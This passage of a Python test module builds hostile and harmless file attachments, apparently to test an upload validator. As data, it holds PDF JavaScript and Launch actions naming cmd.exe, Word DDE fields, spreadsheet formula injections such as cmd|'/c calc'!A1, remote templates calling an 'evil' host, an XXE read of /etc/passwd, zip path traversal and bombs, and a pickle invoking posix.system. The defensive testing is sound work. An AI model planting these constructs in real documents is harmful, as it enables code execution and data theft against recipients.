"""Files that a user may attach and files that may not be: documents, archives and images, whole, broken and hostile."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from dataclasses import dataclass

from loopline import Attachment
from tests.support.pictures import broken, shown
from tests.support.sample_files import gif, jpeg, pdf, pdf_of, png, webp

TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
WORD = '<?xml version="1.0"?><w:document xmlns:w="w"><w:body><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:body></w:document>'
SLIDE = '<?xml version="1.0"?><p:sld xmlns:p="p" xmlns:a="a"><a:p><a:r><a:t>{}</a:t></a:r></a:p></p:sld>'
SHARED = '<?xml version="1.0"?><sst><si><t>{}</t></si></sst>'
SHEET = (
    '<?xml version="1.0"?><worksheet><row><c t="s"><v>0</v></c><c><v>4711</v></c></row></worksheet>'
)
RELATIONS = '<?xml version="1.0"?><Relationships>{}</Relationships>'
EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EIC" + "AR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True, slots=True)
class Sample:
    what: str
    file: Attachment
    harmless: bool = False


def archive(parts: Mapping[str, bytes | str], *, packed: bool = True) -> bytes:
    data = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED
    with zipfile.ZipFile(data, "w", method) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return data.getvalue()


def docx(text: str = "Green tea.", **more: bytes | str) -> bytes:
    """Return a Word document, with more parts whose names have `__` for a slash and `_` for a dot."""
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": TYPES.format(""),
        "word/document.xml": WORD.format(text),
    }
    return archive({**parts, **named(more)})


def named(parts: Mapping[str, bytes | str]) -> dict[str, bytes | str]:
    """Return parts by their names, in which `__` stood for a slash and `_` for a dot."""
    names = [
        name.replace("__", "/").replace("_", ".").replace("/.rels/", "/_rels/") for name in parts
    ]
    return dict(zip(names, parts.values(), strict=True))


def pptx(text: str = "Green tea.", **more: bytes | str) -> bytes:
    """Return a presentation of two slides, with more parts, or others in their place, as of `docx`."""
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": TYPES.format(""),
        "ppt/presentation.xml": "<p/>",
        **{f"ppt/slides/slide{n}.xml": SLIDE.format(f"{n} {text}") for n in (10, 2)},
    }
    return archive({**parts, **named(more)})


def xlsx(text: str = "Green tea", **more: bytes | str) -> bytes:
    """Return a workbook of one sheet, with more parts, or others in their place, as of `docx`."""
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": TYPES.format(""),
        "xl/workbook.xml": "<workbook/>",
        "xl/sharedStrings.xml": SHARED.format(text),
        "xl/worksheets/sheet1.xml": SHEET,
    }
    return archive({**parts, **named(more)})


def pdf_with(catalog: bytes, *objects: bytes, page: bytes = b"") -> bytes:
    """Return a PDF of one page; the catalog and the page have more entries, and more objects begin at number 4."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] " + page + b" >>",
        *objects,
    ]
    return pdf_of(bodies, version=b"1.7")


def annotated(annotation: bytes, *objects: bytes) -> bytes:
    """Return a PDF whose page has an annotation, the object 4."""
    return pdf_with(b"", annotation, *objects, page=b"/Annots [4 0 R]")


def compressed(action: bytes) -> bytes:
    """Return a PDF whose action is an object in a compressed stream."""
    packed = zlib.compress(b"4 0 " + action)
    stream = b"/Filter /FlateDecode /Length %d >>\nstream\n%b\nendstream" % (len(packed), packed)
    bodies = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        5: b"<< /Type /ObjStm /N 1 /First 4 " + stream,
    }
    data, offsets = b"%PDF-1.5\n", {4: (2, 5)}
    for number, body in bodies.items():
        offsets[number] = (1, len(data))
        data += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    offsets[6] = (1, len(data))
    rows = b"\0\0\0\0" + b"".join(
        struct.pack(">BHB", kind, at, 0) for _, (kind, at) in sorted(offsets.items())
    )
    head = b"<< /Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R /Length %d >>" % len(rows)
    data += b"6 0 obj\n" + head + b"\nstream\n" + rows + b"\nendstream\nendobj\n"
    return data + b"startxref\n%d\n%%%%EOF" % offsets[6][1]


def lying(data: bytes, size: int) -> bytes:
    """Return an archive whose first entry says that it has another size unpacked."""
    at = data.index(b"PK\x01\x02")
    changed = bytearray(data)
    changed[at + 24 : at + 28] = struct.pack("<I", size)
    changed[22:26] = struct.pack("<I", size)
    return bytes(changed)


def encrypted(data: bytes) -> bytes:
    changed = bytearray(data)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(mark)
        while at >= 0:
            changed[at + offset] |= 1
            at = changed.find(mark, at + 4)
    return bytes(changed)


SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
SCRIPTS = {
    "JavaScript when it is opened": pdf_with(b"/OpenAction " + SCRIPT),
    "JavaScript of another object": pdf_with(
        b"/OpenAction 4 0 R",
        b"<< /S /JavaScript /JS 5 0 R >>",
        b"<< /Length 3 >>\nstream\nx=1\nendstream",
    ),
    "JavaScript by an escaped name": pdf_with(b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
    "JavaScript among the names": pdf_with(
        b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>"
    ),
    "JavaScript behind another action": pdf_with(
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /JavaScript /JS (x) >>] >>"
    ),
    "a program to start": pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "data to import": pdf_with(b"/AA << /WC << /S /ImportData /F (x) >> >>"),
    "another file to open": pdf_with(b"/OpenAction << /S /GoToE /D [0 /Fit] >>"),
    "a form with scripts": pdf_with(b"/AcroForm << /Fields [] /XFA [(a) 4 0 R] >>", b"<< >>"),
    "a script of a field": pdf_with(
        b"/AcroForm << /Fields [4 0 R] >>",
        b"<< /T (a) /AA << /K << /S /JavaScript /JS (x) >> >> >>",
    ),
    "a file in it": pdf_with(b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>", b"<< >>"),
    "an annotation of a file": pdf_with(
        b"/A [4 0 R]",
        b"<< /Subtype /FileAttachment /FS 5 0 R >>",
        b"<< /Type /Filespec /F (a.exe) >>",
    ),
    "a file stream": pdf_with(
        b"/A << /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>",
        b"<< /Length 1 >>\nstream\nx\nendstream",
    ),
    "the stream of a file": pdf_with(
        b"/A 4 0 R", b"<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream"
    ),
    "associated files": pdf_with(b"/AF [<< /Type /Filespec /F (a.exe) >>]"),
    "a portfolio": pdf_with(b"/Collection << /View /T >>"),
    "a 3D model with a script": pdf_with(
        b"/A << /3DD 4 0 R >>",
        b"<< /Type /3D /Subtype /U3D /OnInstantiate 5 0 R /Length 1 >>\nstream\nx\nendstream",
        b"<< /Length 1 >>\nstream\nx\nendstream",
    ),
    "a 3D annotation": pdf_with(b"/A << /Type /Annot /Subtype /3D >>"),
    "a film": pdf_with(b"/A << /Subtype /Movie /Movie << /F (a.avi) >> >>"),
    "a sound": pdf_with(b"/OpenAction << /S /Sound /Sound 4 0 R >>", b"<< >>"),
    "a file of another server": pdf_with(b"/OpenAction << /S /GoToR /F (//evil/x.pdf) >>"),
    "the content of another file": pdf_with(
        b"/A 4 0 R", b"<< /F (//evil/x) /Length 0 >>\nstream\n\nendstream"
    ),
    "a page of another file": pdf_with(
        b"/A 4 0 R",
        b"<< /Subtype /Form /Ref << /F (//evil/x) >> /Length 0 >>\nstream\n\nendstream",
    ),
    "many updates": pdf("Tea.") + b"\nstartxref\n0\n%%EOF" * 6,
    "long streams": pdf_with(b"", b"<< /Length 104857601 >>"),
    "an address to open at once": pdf_with(b"/OpenAction << /S /URI /URI (http://evil/x) >>"),
    "an address behind another action": pdf_with(
        b"/OpenAction 4 0 R /X 5 0 R",
        b"<< /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >>",
        b"<< /S /URI /URI (http://evil/x) >>",
    ),
    "an address at another event": pdf_with(
        b"/X [4 0 R] /AA 5 0 R",
        b"<< /S /URI /URI (http://evil/x) >>",
        b"<< /WS 4 0 R >>",
    ),
    "an unknown action at once": pdf_with(b"/OpenAction << /S /Fetch /F (http://evil/x) >>"),
    "a thread of another file": pdf_with(b"/OpenAction << /S /Thread /F (http://evil/x) /D 0 >>"),
    "a thread of another file to click": pdf_with(b"/A << /S /Thread /F (//evil/x) /D 0 >>"),
    "a form that is sent": pdf_with(b"/A << /S /SubmitForm /F (http://evil/x) >>"),
    "a circle of actions": pdf_with(
        b"/OpenAction 4 0 R", b"<< /S /GoTo /Next 5 0 R >>", b"<< /S /Launch /Next 4 0 R >>"
    ),
    "rich media": annotated(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"),
    "a screen with a rendition": annotated(
        b"<< /Type /Annot /Subtype /Screen /A << /S /Rendition /JS (x) >> >>"
    ),
    "a script of an annotation": annotated(b"<< /Type /Annot /Subtype /Link /A " + SCRIPT + b" >>"),
    "a sound to click": annotated(
        b"<< /Type /Annot /Subtype /Sound /Sound 5 0 R >>", b"<< /R 8000 >>"
    ),
    "a page that runs a script": pdf_with(b"", page=b"/AA << /O " + SCRIPT + b" >>"),
    "a script in a stream of objects": compressed(SCRIPT),
    "a script in an outline": pdf_with(
        b"/Outlines 4 0 R",
        b"<< /First 5 0 R /Last 5 0 R >>",
        b"<< /Title (a) /A " + SCRIPT + b" >>",
    ),
    "a script with a comment in its name": pdf_with(b"/OpenAction << /S %x\n/JavaScript /JS(x)>>"),
    "a script with escaped letters": pdf_with(
        b"/Open#41ction << /#53 /Java#53cript /#4a#53 (x) >>"
    ),
    "a script in an update": pdf_with(b"")
    + b"\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction "
    + SCRIPT
    + b" >>\nendobj\nxref\n1 1\n0000000300 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n9\n%%EOF",
    "a program to start by name": pdf_with(b"/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>"),
}
MACROS = {
    "a project of macros": docx(word__vbaProject_bin=b"\x01"),
    "data of macros": docx(word__vbaData_xml="<x/>"),
    "a type with macros": archive(
        {
            "[Content_Types].xml": TYPES.format(
                '<x ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
            ),
            "word/document.xml": WORD.format("x"),
        }
    ),
    "macros written in UTF-16": archive(
        {
            "[Content_Types].xml": TYPES.format('<x t="macroEnabled"/>').encode("utf-16"),
            "word/document.xml": WORD.format("x"),
        }
    ),
    "a project with a capital letter": docx(WORD__VBAPROJECT_BIN=b"\x01"),
    "a project of another part": docx(docProps__vbaProject_bin=b"\x01"),
    "an add-in": pptx(ppt__vbaProject_bin="x"),
    "macros of an open document": archive(
        {"mimetype": "application/vnd.oasis.opendocument.text", "Basic/script-lc.xml": "<x/>"}
    ),
    "a control": docx(word__activeX__activeX1_xml="<x/>"),
    "a control in binary": docx(word__activeX__activeX1_bin=b"x"),
    "an embedded object": docx(word__embeddings__oleObject1_bin=b"x"),
    "an old document in it": docx(word__media__image1_png=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest"),
    "sheets of macros": docx(xl__macrosheets__sheet1_xml="<x/>"),
    "a template from elsewhere": docx(
        word___rels__settings_xml_rels=RELATIONS.format(
            '<Relationship Type="http://x/attachedTemplate" Target="http://evil/x" TargetMode="External"/>'
        )
    ),
    "an object from elsewhere": docx(
        word___rels__document_xml_rels=RELATIONS.format(
            '<Relationship TargetMode=\'External\' Target="http://evil/x" Type="http://x/oleObject"/>'
        )
    ),
    "a field that starts a program": docx(
        "</w:t><w:instrText>DD</w:instrText><w:instrText>EAUTO cmd.exe</w:instrText><w:t>"
    ),
    "a simple field that starts a program": docx('</w:t><w:fldSimple w:instr="DDE cmd.exe"/><w:t>'),
    "a link that starts a program": docx(xl__externalLinks__a_xml="<x><ddeLink/></x>"),
}
ACTIVE_FIELDS = (
    *("DATABASE", "DDE", "ddeauto", "EMBED", "IMPORT", "INCLUDE", "INCLUDEPICTURE", "INCLUDETEXT"),
    *("LINK", "PRINT", "RD"),
)


def field(*instructions: str, result: str = "") -> str:
    """Return the text of a field of a Word document, whose instruction is split into several runs."""
    texts = "".join(
        text[6:-5] if text.startswith("</w:t>") else f"<w:instrText>{text}</w:instrText>"
        for text in instructions
    )
    marks = [f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end")]
    return f"</w:t>{marks[0]}{texts}{marks[1]}<w:t>{result}</w:t>{marks[2]}<w:t>"


def related(kind: str, mode: str = "Internal", target: str = "a.xml") -> bytes:
    relation = f'<Relationship Type="http://x/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return docx(word___rels__document_xml_rels=RELATIONS.format(relation))


def calculated(formula: str, element: str = "f") -> bytes:
    sheet = f"<?xml version='1.0'?><worksheet><row><c><{element}>{formula}</{element}></c></row></worksheet>"
    return xlsx(xl__worksheets__sheet1_xml=sheet)


ACTIVE = {
    **{f"the field {name}": docx(field(f" {name} ", "//evil/x")) for name in ACTIVE_FIELDS},
    **{
        f"the simple field {name}": docx(f'</w:t><w:fldSimple w:instr="{name} x"/><w:t>')
        for name in ACTIVE_FIELDS
    },
    **{
        f"the field {name} in small letters": docx(field(f" {name.lower()} x"))
        for name in ACTIVE_FIELDS
    },
    **{f"the field {name} in letters": docx(field(*name, " x")) for name in ACTIVE_FIELDS},
    **{
        f"a field among the {part}": docx(
            **{f"word__{part}_xml": WORD.format("</w:t><w:instrText>DDE x</w:instrText><w:t>")}
        )
        for part in ("header1", "footnotes")
    },
    "a field with another prefix": docx(
        "</w:t></w:r><x:r xmlns:x='w'><x:instrText>DDE cmd</x:instrText></x:r><w:r><w:t>"
    ),
    "a field with entities for letters": docx(
        "</w:t><w:instrText>&#68;&#68;E cmd.exe</w:instrText><w:t>"
    ),
    "a split field": docx(field("INCL", "UDETEXT //evil/x")),
    "a field in a field": docx(field("IF 1 = 1 ", field("LINK x"))),
    "a field whose kind is computed": docx(field(field("QUOTE 68 68 69"), "x")),
    **{
        f"an external {kind}": related(kind, "External", "http://evil/x")
        for kind in (
            *("image", "frame", "video", "externalLinkPath", "mailMergeSource", "slide"),
            *("attachedTemplate", "subDocument", "oleObject", "audio"),
        )
    },
    **{
        f"the relation {kind}": related(kind)
        for kind in (
            *("aFChunk", "connections", "queryTable", "control", "oleObject", "webextension"),
            *("attachedToolbars", "keyMapCustomizations", "extensibility", "externalLink"),
        )
    },
    **{
        f"the part {name}": docx(**{name: "<x/>"})
        for name in (
            *("customUI__customUI_xml", "customUI__customUI14_xml", "word__afchunk_mht"),
            *("xl__connections_xml", "xl__queryTables__q_xml", "ppt__embeddings__oleObject1_bin"),
            *("word__webextensions__taskpanes_xml", "word__afchunk_htm", "xl__dialogsheets__a_xml"),
            *(
                "xl__externalLinks__a_xml",
                "xl__volatileDependencies_xml",
                "word__embeddings__a_exe",
            ),
        )
    },
    **{
        f"the element {name}": docx(word__settings_xml=f"<w:x xmlns:w='w'><w:{name}/></w:x>")
        for name in ("altChunk", "mailMerge", "customUI", "oleLink", "ddeLink")
    },
    "a header under another name": docx(
        word__media__a_png="\ufeff<x><w:instrText xmlns:w='w'>DDE x</w:instrText></x>"
    ),
    "a picture by its address": docx('</w:t><v:imagedata xmlns:v="v" src="//evil/x"/><w:t>'),
    **{
        f"the action {action} to click": pptx(
            ppt__slides__slide2_xml=f"<p xmlns:a='a'><a:{on} action='ppaction://{action}'/></p>"
        )
        for on, action in (
            ("hlinkClick", "program"),
            ("hlinkClick", "macro?name=x"),
            ("hlinkHover", "ole?verb=0"),
        )
    },
    **{
        f"the formula {formula} in {element}": calculated(formula, element)
        for formula, element in (
            ("cmd|'/c calc'!A1", "f"),
            ("Cmd|'/c calc'!a1", "f"),
            ("+cmd|'/c calc'!A1", "f"),
            ("cmd | '/c calc' ! A1", "f"),
            ("MSEXCEL|'\\..\\cmd.exe /c calc'!A1", "f"),
            ("EXEC(&quot;calc&quot;)", "f"),
            ("REGISTER(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;)", "f"),
            ("'cmd'|'/c calc'!A1", "f"),
            ("cmd_x007C_'/c calc'!A1", "f"),
            ("1+cmd|'/c calc'!A1", "formula1"),
            ("cmd|'/c calc'!A1", "definedName"),
            ("WEBSERVICE(&quot;http://evil&quot;)", "f"),
            ("_xlfn.IMAGE(A1)", "f"),
            ("SUM(1,CALL(&quot;urlmon&quot;))", "f"),
            ("rtd (A1)", "f"),
        )
    },
    "a control": xlsx(xl__ctrlProps__ctrlProp1_xml="<formControlPr objectType='Button'/>"),
    "the relation of a control": related("ctrlProp"),
    "a button": xlsx(
        xl__drawings__vmlDrawing1_vml="<x xmlns:x='x'><x:ClientData ObjectType='Button'/></x>"
    ),
    "a macro of a note": xlsx(
        xl__drawings__vmlDrawing1_vml="<x xmlns:x='x'><x:FmlaMacro>[0]!run</x:FmlaMacro></x>"
    ),
    "a macro of a shape": xlsx(
        xl__drawings__drawing1_xml="<x xmlns:xdr='x'><xdr:sp macro='[0]!run'/></x>"
    ),
    **{
        f"the name {name}": xlsx(
            xl__workbook_xml=f"<workbook><definedName name='{name}'>Sheet1!A1</definedName></workbook>"
        )
        for name in ("_xlnm.Auto_Open", "auto_close", "Auto_Open1")
    },
    **{
        f"data of Power Query in {encoding}": xlsx(
            customXml__item1_xml=f"<?xml version='1.0' encoding='{encoding}'?><DataMashup "
            "xmlns='http://schemas.microsoft.com/DataMashup'>AAAA</DataMashup>".encode(encoding)
        )
        for encoding in ("utf-8", "utf-16")
    },
}
ENTITIES = {
    "entities": docx(x_xml='<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'),
    "an entity of a file": docx(x_xml='<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'),
    "a field in an encoding that cannot be read": docx(
        word__header1_xml="<?xml version='1.0' encoding='utf-7'?><x>+AEQ-DE cmd</x>"
    ),
    "entities in UTF-16": docx(x_xml='<!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16")),
    "a document type alone": docx(x_xml="<!DOCTYPE x><x/>"),
    "macros written in EBCDIC": docx(
        Types_xml='<?xml version="1.0" encoding="cp037"?><x t="macroEnabled"/>'.encode("cp037")
    ),
    "a field written in UTF-16": docx(
        word__header1_xml=WORD.format("</w:t><w:instrText>DDE x</w:instrText><w:t>").encode(
            "utf-16"
        )
    ),
    "an external relation in UTF-16": docx(
        word___rels__settings_xml_rels=RELATIONS.format(
            '<Relationship Type="http://x/attachedTemplate" Target="http://e/x" TargetMode="External"/>'
        ).encode("utf-16")
    ),
}
BOMBS = {
    "a bomb": docx(word__media__a_bin=b"\0" * 50_000_000),
    "many small bombs": archive(
        {
            "[Content_Types].xml": TYPES.format(""),
            "word/document.xml": WORD.format("x"),
            **{f"word/{n}.bin": b"\0" * 900_000 for n in range(140)},
        }
    ),
    "many entries": archive(
        {
            "[Content_Types].xml": "",
            "word/document.xml": "",
            **{f"{n}.xml": "" for n in range(2_001)},
        }
    ),
    "an archive in it": docx(word__media__a_zip=archive({"a": "b"})),
    "an archive under another name": docx(word__media__a_png=archive({"a": "b"})),
    "an archive of another kind": docx(word__media__a_png=b"7z\xbc\xaf\x27\x1crest"),
    "packed data": docx(word__media__a_png=b"\x1f\x8b\x08rest"),
    "an entry that says it is small": lying(docx("x" * 9_000), 10),
    "an entry that says it is large": lying(docx(), 4_000_000_000),
    "a password": encrypted(docx()),
    "a way out": docx(**{"..____etc__passwd": "x"}),
    "an absolute name": archive(
        {"[Content_Types].xml": "", "word/document.xml": "", "/etc/passwd": "x"}
    ),
    "a drive": archive({"[Content_Types].xml": "", "word/document.xml": "", "c:\\x": "x"}),
    "a name twice": archive(
        {"[Content_Types].xml": "", "word/document.xml": "", "WORD/document.xml": ""}
    ),
    "two kinds at once": archive(
        {"[Content_Types].xml": "", "word/document.xml": WORD.format(""), "xl/workbook.xml": "<x/>"}
    ),
    "no XML": archive({"[Content_Types].xml": "", "word/document.xml": "<x"}),
}
SCRIPT_AT_ONCE = pdf_with(b"/OpenAction " + SCRIPT)
POLYGLOTS = {
    "a PDF after a line of PostScript": b"%!PS\n" + SCRIPT_AT_ONCE,
    "a PDF by the header of PostScript": SCRIPT_AT_ONCE.replace(
        b"%PDF-1.7", b"%!PS-Adobe-3.0 PDF-1.7"
    ),
    "a PDF after words": b"tea " * 250 + SCRIPT_AT_ONCE,
    "a PDF without its dash": b"tea\n" + SCRIPT_AT_ONCE.replace(b"%PDF-", b"%PDF"),
    "a PDF with comments between its words": b"tea\n"
    + SCRIPT_AT_ONCE.replace(b" 0 obj", b"%x\n0%x\nobj"),
    "a PDF in a GIF": gif(9, 9)[:-1] + b"!\xfe\xff" + SCRIPT_AT_ONCE[:255] + b"\0;",
    "a PNG with an archive": png(9, 9) + archive({"a": "b"}),
    "a GIF with an archive": gif(9, 9) + docx(),
    "a JPEG with an archive": jpeg(9, 9) + archive({"a": "b"}),
    "a WebP with an archive": webp(b"VP8 ", 9, 9) + archive({"a": "b"}),
    "a PDF with an archive": pdf("x") + archive({"a": "b"}),
}
RTF = r"{\rtf1\ansi\deff0{\fonttbl{\f0 Arial;}}\f0 %s\par}"


def rtf(text: str) -> bytes:
    return (RTF % text).encode("cp1252")


RICH_TEXTS = {
    "an object": rtf(r"{\object\objocx{\*\objdata 0105000002000000}}"),
    "the data of an object alone": rtf(r"{\*\objdata 0105000002000000}"),
    "a linked object that is updated": rtf(r"{\object\objautlink\objupdate}"),
    "a field": rtf(r"{\field{\*\fldinst DDEAUTO cmd.exe}}"),
    "a field in hexadecimal": rtf(r"{\field{\*\fldinst{\'44\'44}{E} cmd.exe}{\fldrslt x}}"),
    "a template from elsewhere": rtf(r"{\*\template http://evil/x}"),
    "a subdocument": rtf(r"{\filetbl{\file\fid0 \\evil\x}}\subdocument0"),
    "mail merge": rtf(r"{\*\mailmerge{\mmconnectstr x}}"),
    "a picture by its address": rtf(r"{\sp{\sn pibName}{\sv http://evil/x}}"),
    "an object behind raw bytes": rtf(r"\bin1 \\objdata 0105"),
    "an object behind a backslash": rtf(r"\\\object\objdata 0105"),
    "an object in capital letters": rtf(r"{\OBJECT\OBJDATA 0105}"),
    "an object and a short signature": rtf(r"\objdata 0105").replace(b"rtf1", b"rt"),
    "an object after a mark and spaces": b"\xef\xbb\xbf \r\n" + rtf(r"\objdata 0105"),
    "an object and umlauts": rtf("Grüner Tee: äöüß. \\objdata 0105"),
}
UNKNOWN = {
    "a binary workbook": archive({"[Content_Types].xml": TYPES.format(""), "xl/workbook.bin": "x"}),
    "another package of parts": archive(
        {"[Content_Types].xml": TYPES.format(""), "tea.nuspec": "<x/>"}
    ),
    "an archive": archive({"a.txt": "b"}),
    "an empty archive": archive({}),
    "a Java archive": archive({"META-INF/MANIFEST.MF": "x"}),
    "an Android package": archive({"AndroidManifest.xml": "x", "classes.dex": "x"}),
    "a program": b"MZ\x90\x00" + b"\0" * 200,
    "a program of Linux": b"\x7fELF\x02\x01\x01" + b"\0" * 200,
    "an old Word document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "a 7z archive": b"7z\xbc\xaf\x27\x1c" + b"\0" * 100,
    "a gzip archive": b"\x1f\x8b\x08" + b"\0" * 100,
    "a RAR archive": b"Rar!\x1a\x07\x01\x00" + b"\0" * 100,
    "a class of Java": b"\xca\xfe\xba\xbe" + b"\0" * 100,
    "a shortcut": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 100,
    "a sound": b"ID3\x03\0\0\0" + b"\xff\xfb\x90\0" * 50,
    "nothing known": bytes(range(256)),
    "a text with a null": b"tea\0tea",
    "HTML in an archive": b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n\0<script>",
    "a disk image": b"\0" * 0x8001 + b"CD001" + b"\0" * 100,
    "a cabinet": b"MSCF\0\0\0\0" + b"\0" * 60,
    "a shortcut of the web": b"[InternetShortcut]\r\nURL=file://evil/x.exe\r\n\0",
    "a help file": b"ITSF\x03\0\0\0" + b"\0" * 60,
    "WebAssembly": b"\0asm\x01\0\0\0",
    "bytecode of Python": b"\xa7\r\r\n" + b"\0" * 40,
    "a pickle": b"\x80\x05\x95\x20\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.",
    "a program behind words": b"tea " * 10 + b"\0MZ\x90\0",
    "PostScript": b"%!PS-Adobe-3.0\n(x) (r) file\0",
    "an XZ archive": b"\xfd7zXZ\0" + b"\0" * 60,
    "a Zstandard archive": b"\x28\xb5\x2f\xfd" + b"\0" * 60,
    "a tar archive": b"a.txt".ljust(257, b"\0") + b"ustar\0" + b"\0" * 249,
}
NAMES = ("x.pdf", "x.docx", "x.png", "x.txt")


def truncated() -> list[Sample]:
    """Documents that end too early."""
    whole = {"docx": docx("x" * 400), "pptx": pptx(), "xlsx": xlsx(), "pdf": pdf("One.", "Two.")}
    return [
        Sample(f"{share} % of a {kind}", Attachment(f"x.{kind}", data[: len(data) * share // 100]))
        for kind, data in whole.items()
        for share in (20, 60, 90)
    ]


HARMLESS_PDFS = {
    "pictured in a page.pdf": pdf_with(
        b"/X << /XObject << /I 4 0 R >> >>",
        b"<< /Type /XObject /Subtype /Image /Length 1 >>\nstream\nx\nendstream",
    ),
    "plain.pdf": pdf("Green tea."),
    "long.pdf": pdf(*(f"Page {n}" for n in range(60))),
    "goes to a page.pdf": pdf_with(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
    "form.pdf": pdf_with(b"/AcroForm << /Fields [4 0 R] >>", b"<< /T (name) /FT /Tx >>"),
    "linked.pdf": pdf_with(b"/X << /S /URI /URI (http://a) >>"),
    "linked on its first page.pdf": pdf_with(
        b"/OpenAction [4 0 R /Fit] /AA << /WP << /S /Named /N /Print /Next 4 0 R >> >>",
        b"<< /Type /Page /Parent 2 0 R /Annots [5 0 R] >>",
        b"<< /Subtype /Link /A << /S /URI /URI (http://a) /Next << /S /Thread /D 0 >> >> >>",
    ),
}


def harmless() -> list[Sample]:
    files = {
        "note.txt": b"Green tea.",
        "eicar in words.txt": b"The test file of scanners is called EICAR.",
        "page.html": b"<script>alert(1)</script>",
        "table.csv": b"tea,3\n",
        "data.json": b'{"a": 1}',
        "code.py": b"import os\n",
        "umlauts.md": "# Tee für Ümläute\n".encode(),
        "letter.docx": docx("Dear Ann, DDE is a word here, and so are macros."),
        "wrong name.pdf": docx(),
        "unnamed": docx(),
        "slides.pptx": pptx(),
        "sheet.xlsx": xlsx(),
        "linked.docx": docx(
            word___rels__document_xml_rels=RELATIONS.format(
                '<Relationship Type="http://x/hyperlink" Target="http://a" TargetMode="External"/>'
            )
        ),
        "pictured.docx": docx(word__media__image1_png=png(640, 480)),
        "fields.docx": docx(
            field(' TOC \\o "1-3" ', result=field(" PAGEREF a "))
            + field(" = ", field(" PAGE "), " - 1 ")
            + field(' HYPERLINK "http://a" \\o "LINK" ')
            + '</w:t><w:fldSimple w:instr=" DATE "/><w:t>'
        ),
        "noted.xlsx": xlsx(
            xl__comments1_xml="<x/>",
            xl__drawings__vmlDrawing1_vml="<x xmlns:x='x'><x:ClientData ObjectType='Note'/></x>",
        ),
        "picture in a cell.xlsx": xlsx(
            xl___rels__workbook_xml_rels=RELATIONS.format(
                '<Relationship Type="http://x/richValueRel" Target="richData/richValueRel.xml"/>'
            ),
            xl__richData__richValueRel_xml="<x/>",
        ),
        "drawn.xlsx": xlsx(
            xl__drawings__drawing1_xml="<x xmlns:xdr='x'><xdr:sp macro=''/><xdr:clientData/></x>",
            xl__workbook_xml="<workbook><definedName name='Auto'>Sheet1!A1</definedName></workbook>",
        ),
        "styled.docx": docx(
            word__styles_xml="<x/>",
            word__header1_xml="<x/>",
            word__theme__theme1_xml="<x/>",
            customXml__itemProps1_xml="<x/>",
            docProps__core_xml="<x/>",
        ),
        "calculated.xlsx": calculated("SUM('a|b'!A1:A3) &amp; &quot;a|b&quot;"),
        "repeated.docx": docx("tea " * 40_000),
        **HARMLESS_PDFS,
        "note.rtf": rtf(r"Green \b tea\b0 : C:\\object\\field, \{\u8220?tea\'94\}."),
        "umlauts.rtf": rtf("Grüner Tee für alle, die gerne Tee trinken, nur 3 €."),
        "about pdf.md": b"A file with the header %PDF-1.7 has objects.",
        "of pdf.txt": b"tea\n" * 300 + b"%PDF-1.7\n1 0 obj",
        **shown(),
        "photo named as text.txt": png(6, 4),
    }
    return [Sample(name, Attachment(name, data), harmless=True) for name, data in files.items()]


HARMFUL = {
    "pdf": SCRIPTS,
    "docx": {**MACROS, **ACTIVE, **ENTITIES, **BOMBS},
    "png": {**POLYGLOTS, **broken()},
    "rtf": RICH_TEXTS,
    "bin": UNKNOWN,
}
"""What is harmful in files of that ending."""


def corpus() -> list[Sample]:
    made = [
        Sample(f"{kind} with {what}", Attachment(f"x.{kind}", data))
        for kind, files in HARMFUL.items()
        for what, data in files.items()
    ]
    renamed = [
        Sample(f"{what} named {name}", Attachment(name, data))
        for what, data in {**UNKNOWN, "a project of macros": MACROS["a project of macros"]}.items()
        for name in NAMES
        if what
